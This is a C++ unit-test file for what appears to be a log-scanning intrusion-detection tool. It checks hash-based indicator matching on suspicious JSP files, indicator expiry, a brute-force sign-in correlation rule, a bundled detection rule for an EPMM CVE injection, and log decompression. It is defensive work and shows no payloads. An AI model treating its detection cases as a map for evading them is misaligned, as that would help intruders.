      R"({"@timestamp":"2026-01-30T09:15:00Z","file":{"path":"/mifs/403.jsp","extension":"jsp","hash":{"md5":")" +
      md5 + R"("}}})" + "\n" +
      R"({"@timestamp":"2026-01-30T09:15:01Z","file.path":"/mifs/a.jsp","file.extension":"jsp","file.hash.sha1":")" +
      sha1 + R"("})" + "\n" +
      R"({"@timestamp":"2026-01-30T09:15:02Z","file.path":"/mifs/b.jsp","file.extension":"jsp","file.hash.md5":")" +
      std::string(32, '0') + R"("})" + "\n";
  ScanOptions opt;
  opt.rule_dirs = {(dir_ / "rules").string()};
  // Upper case in the feed: digests compare without regard to case.
  std::string upper_md5 = md5;
  for (char& c : upper_md5) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  opt.ioc_files = {Write("iocs.csv", "type,value\nmd5," + upper_md5 + "\nsha1," + sha1 + "\n")};
  opt.log_files = {Write("fim.jsonl", log)};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 3u) << out_.str();
  EXPECT_EQ(alerts[0]["line"], 1);
  EXPECT_EQ(alerts[0]["rule"], "ioc");
  EXPECT_EQ(alerts[0]["ioc"]["field"], "file.hash.md5");
  EXPECT_EQ(alerts[0]["ioc"]["value"], md5);
  for (size_t i = 1; i < 3; ++i) EXPECT_EQ(alerts[i]["line"], 2) << alerts[i].dump();
  std::set<std::string> rules = {alerts[1]["rule"], alerts[2]["rule"]};
  EXPECT_EQ(rules, (std::set<std::string>{"ioc", "0d0d0d0d-0000-4000-8000-000000000003"}));
  for (const auto& a : alerts) {
    if (a["rule"] == "ioc" && a["line"] == 2) {
      EXPECT_EQ(a["ioc"]["field"], "file.hash.sha1");
    }
  }
}

// Regression: a hunt through January's logs dropped every indicator whose valid_until had
// passed by the day of the hunt.
TEST_F(ScanTest, IndicatorsAreWeighedAtTheLinesTime) {
  ScanOptions opt;
  // Expires 2026-01-29T12:00:00Z; the scan runs on 2026-01-30 (Run's now_millis).
  opt.ioc_files = {
      Write("iocs.csv", "type,value,source,expiry\nip,203.0.113.50,feed,1769688000\n")};
  const std::string request = "\"GET / HTTP/1.1\" 200 1 \"-\" \"x\"\n";
  opt.log_files = {Write("a.log", "203.0.113.50 - - [29/Jan/2026:09:00:00 +0000] " + request +
                                      "203.0.113.50 - - [30/Jan/2026:09:00:00 +0000] " + request)};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 1u) << out_.str();
  EXPECT_EQ(alerts[0]["line"], 1) << "logged while the indicator was valid";
  EXPECT_EQ(alerts[0]["source_ip"], "203.0.113.50");
}

// The bundled chain over an exported console log: ten failed sign-ins from one address, then
// its sign-in, alert once, on the sign-in's line; the inner correlation prints nothing.
TEST_F(ScanTest, ChainedCorrelationsAlertOnceInAScan) {
  auto event = [](int second, const std::string& action, const std::string& ip) {
    char stamp[32];
    std::snprintf(stamp, sizeof stamp, "2026-01-30T09:%02d:%02dZ", second / 60, second % 60);
    return std::string(R"({"@timestamp":")") + stamp + R"(","event.action":")" + action +
           R"(","event.reason":"bad_password","source.ip":")" + ip + R"(","user.name":"adm_1"})" +
           "\n";
  };
  std::string log;
  for (int i = 0; i < 10; ++i) log += event(i * 10, "auth.login_failed", "198.51.100.20");
  for (int i = 0; i < 9; ++i) log += event(i * 10, "auth.login_failed", "192.0.2.10");
  log += event(200, "auth.login", "192.0.2.10");     // line 20: nine failures only
  log += event(300, "auth.login", "198.51.100.20");  // line 21: completes the chain
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  opt.log_files = {Write("console.jsonl", log)};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 1u) << out_.str();
  EXPECT_EQ(alerts[0]["rule"], "8c599858-bc56-4706-9375-a05b9940e513");
  EXPECT_EQ(alerts[0]["line"], 21);
  EXPECT_EQ(alerts[0]["correlation"]["entity"], "source.ip=198.51.100.20");
  EXPECT_NE(err_.str().find("1 alerts"), std::string::npos) << err_.str();
}

// Regression: a file that began in JSON and went on as an access log was read as JSON to the
// end, its exploit lines counted as parse errors and nothing flagged.
TEST_F(ScanTest, AFileThatChangesFormatIsReadLineByLine) {
  std::string json;
  for (int i = 0; i < 5; ++i) {
    json += R"({"@timestamp":"2026-01-30T09:00:0)" + std::to_string(i) +
            R"(Z","source.ip":"10.0.0.1","url.original":"/mifs/user/login.jsp"})" + "\n";
  }
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  opt.log_files = {Write("mixed.log", json + Log())};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  EXPECT_EQ(alerts.size(), 3u) << out_.str();
  for (const auto& a : alerts) EXPECT_GT(a["line"].get<int>(), 5) << a.dump();
  EXPECT_NE(err_.str().find("format jsonl"), std::string::npos) << err_.str();
  EXPECT_NE(err_.str().find("4 of 9 lines read as an access log, not jsonl (first at line 6)"),
            std::string::npos)
      << err_.str();
  EXPECT_EQ(err_.str().find("not in jsonl format"), std::string::npos) << err_.str();
}

TEST_F(ScanTest, BadOptionsAndMissingFiles) {
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  opt.log_files = {(dir_ / "missing.log").string(), Write("ok.log", Log())};
  EXPECT_EQ(Run(opt), 1);
  EXPECT_EQ(Alerts().size(), 3u) << "the readable file is still scanned";
  opt.output_format = "xml";
  EXPECT_EQ(Run(opt), 2);
  opt.output_format = "jsonl";
  opt.rule_dirs = {(dir_ / "no-rules").string()};
  EXPECT_EQ(Run(opt), 2);
  // --rules without the bundled directory: said, since the EPMM rules are then not loaded.
  opt.rule_dirs = {kSigmaHqRules};
  opt.log_files = {Write("ok.log", Log())};
  EXPECT_EQ(Run(opt), 0);
  EXPECT_NE(err_.str().find("the bundled rules (" + kBundledSigma + ") are not loaded"),
            std::string::npos)
      << err_.str();
  for (std::string bundled : {std::string(RAMPART_SOURCE_DIR "/rules/../rules/sigma"),
                              std::string(RAMPART_SOURCE_DIR "/rules")}) {
    opt.rule_dirs = {kSigmaHqRules, bundled};
    EXPECT_EQ(Run(opt), 0);
    EXPECT_EQ(err_.str().find("are not loaded"), std::string::npos) << bundled << err_.str();
  }
  // Where the bundled directory is not (an installed binary's build path), nothing to say.
  opt.default_rules_dir = (dir_ / "not-installed").string();
  opt.rule_dirs = {kSigmaHqRules};
  EXPECT_EQ(Run(opt), 0);
  EXPECT_EQ(err_.str().find("are not loaded"), std::string::npos) << err_.str();
  opt.default_rules_dir = kBundledSigma;
  opt.rule_dirs = {};
  opt.ioc_files = {Write("broken.json", "{\"type\": \"bundle\", \"objects\": [")};
  EXPECT_EQ(Run(opt), 2);
  EXPECT_NE(err_.str().find("broken.json:1:32: invalid JSON"), std::string::npos) << err_.str();
}

TEST_F(ScanTest, XzLogsAreReadOtherCompressionsAndDirectoriesRefused) {
  auto xz = [](const std::string& text) {
    std::string out(lzma_stream_buffer_bound(text.size()), '\0');
    size_t size = 0;
    EXPECT_EQ(lzma_easy_buffer_encode(6, LZMA_CHECK_CRC64, nullptr,
                                      reinterpret_cast<const uint8_t*>(text.data()), text.size(),
                                      reinterpret_cast<uint8_t*>(out.data()), &size, out.size()),
              LZMA_OK);
    out.resize(size);
    return out;
  };
  ScanOptions opt;
  opt.default_rules_dir = kBundledSigma;
  // Two streams one after the other (as `cat a.xz b.xz` makes): both are read.
  opt.log_files = {Write("access.log.xz", xz(Log()) + xz(Log()))};
  ASSERT_EQ(Run(opt), 0) << err_.str();
  auto alerts = Alerts();
  ASSERT_EQ(alerts.size(), 6u) << out_.str();
  EXPECT_EQ(alerts[0]["line"], 2);
  EXPECT_EQ(alerts[2]["line"], 4);
  EXPECT_EQ(alerts[5]["line"], 8);
  EXPECT_NE(err_.str().find("8 lines in"), std::string::npos) << err_.str();

  // Cut short, or damaged: what was read is scanned, and the file is reported.
  std::string whole = xz(Log());
  opt.log_files = {Write("cut.log.xz", whole.substr(0, whole.size() - 12))};
  EXPECT_EQ(Run(opt), 1);
  EXPECT_NE(err_.str().find("ends inside its xz stream"), std::string::npos) << err_.str();
  std::string damaged = whole;
  damaged[damaged.size() / 2] ^= 0x55;
  opt.log_files = {Write("damaged.log.xz", damaged)};
  EXPECT_EQ(Run(opt), 1);
  EXPECT_NE(err_.str().find("read error"), std::string::npos) << err_.str();

  // Compressions not read are named rather than read as text, and so is a directory; the
  // other files are still scanned.
  const std::pair<std::string, std::string> refused[] = {
      {std::string("\x28\xb5\x2f\xfd\x24\x00", 6), "compressed with zstd"},
      {"BZh91AY&SY", "compressed with bzip2"},
      {std::string("PK\x03\x04\x14\x00", 6), "compressed with zip"},
  };
  for (const auto& [bytes, message] : refused) {
    opt.log_files = {Write("rotated.log.1", bytes), Write("ok.log", Log())};
    EXPECT_EQ(Run(opt), 1);
    EXPECT_NE(err_.str().find("rotated.log.1: " + message), std::string::npos) << err_.str();
    EXPECT_EQ(err_.str().find("not in"), std::string::npos) << "not read as text: " << err_.str();
    EXPECT_EQ(Alerts().size(), 3u);
  }
  fs::create_directories(dir_ / "logs");
  opt.log_files = {(dir_ / "logs").string(), Write("ok.log", Log())};
  EXPECT_EQ(Run(opt), 1);
  EXPECT_NE(err_.str().find("logs: is a directory, not a log file"), std::string::npos)
      << err_.str();
  EXPECT_EQ(err_.str().find("gzip"), std::string::npos) << err_.str();
  EXPECT_EQ(Alerts().size(), 3u);
}

TEST_F(ScanTest, RulesCheckPrintsEveryRule) {
  std::ostringstream out;
  RulesCheckOptions opt;
  opt.rule_dirs = {kBundledSigma};
  opt.out = &out;
  EXPECT_EQ(RunRulesCheckCommand(opt), 0) << out.str();
  EXPECT_NE(out.str().find("26 loaded, 0 skipped (8 correlations"), std::string::npos) << out.str();
  Write("bad.yml",
        "title: x\nlogsource: {category: webserver}\ndetection:\n  s:\n    c-uri|"
        "base64offset: a\n  condition: s\n");
  opt.rule_dirs = {dir_.string()};
  out.str("");
  EXPECT_EQ(RunRulesCheckCommand(opt), 1);
  EXPECT_NE(out.str().find("skipped\t"), std::string::npos);
  EXPECT_NE(out.str().find("modifier 'base64offset' is not supported"), std::string::npos)
      << out.str();

  // One file, named on its own; and the bundled rules twice: each copy's ids are taken.
  out.str("");
  opt.rule_dirs = {kBundledSigma + "/epmm_cve_2026_1281_fob_injection.yml"};
  EXPECT_EQ(RunRulesCheckCommand(opt), 0) << out.str();
  EXPECT_NE(out.str().find("1 loaded, 0 skipped"), std::string::npos) << out.str();
  out.str("");
  opt.rule_dirs = {kBundledSigma, kBundledSigma + "/epmm_cve_2026_1281_fob_injection.yml"};
  EXPECT_EQ(RunRulesCheckCommand(opt), 1) << out.str();
  EXPECT_NE(out.str().find("26 loaded, 1 skipped"), std::string::npos) << out.str();
  EXPECT_NE(out.str().find("is already the id of"), std::string::npos) << out.str();
}

TEST(ScanProgressTest, BarPercentRateAndTimeLeft) {
  internal::ScanProgress p;
  p.file = "/var/log/access.log";
  p.bytes_read = 420;
  p.bytes_total = 1000;
  p.lines = 1234567;
  p.seconds = 2;
  EXPECT_EQ(internal::RenderProgress(p, 200),
            "[########------------]  42%  /var/log/access.log  1,234,567 lines  617.3 k lines/s"
            "  ETA 3 s");
  p.file_index = 1;
  p.file_count = 3;
  p.bytes_read = 1000;
  p.lines = 12;
  p.seconds = 4000;
  EXPECT_EQ(internal::RenderProgress(p, 200),
            "[####################] 100%  /var/log/access.log (2/3)  12 lines  0 lines/s");
  p.bytes_read = 10;
  p.lines = 3000000;
  p.seconds = 1.5;
  EXPECT_EQ(internal::RenderProgress(p, 200),
            "[--------------------]   1%  /var/log/access.log (2/3)  3,000,000 lines  2.0 M "
            "lines/s  ETA 2 min 29 s");
}

TEST(ScanProgressTest, UnknownSizeAndNarrowTerminals) {
  internal::ScanProgress p;
  p.file = "/var/log/nginx/access.log";
  p.lines = 999;
  EXPECT_EQ(internal::RenderProgress(p, 200), "/var/log/nginx/access.log  999 lines")
      << "no bar, rate or time left without a size and a duration";
  p.bytes_total = 100;
  p.bytes_read = 50;
  p.seconds = 1;
  // The file name gives way from the left, then the line is cut.
  EXPECT_EQ(internal::RenderProgress(p, 66),
            "[##########----------]  50%  ...g  999 lines  999 lines/s  ETA 1 s");
  EXPECT_EQ(internal::RenderProgress(p, 60),
            "[##########----------]  50%    999 lines  999 lines/s  ETA 1");
  EXPECT_EQ(internal::RenderProgress(p, 20), "[##########---------");
}

}  // namespace
}  // namespace rampart::detect
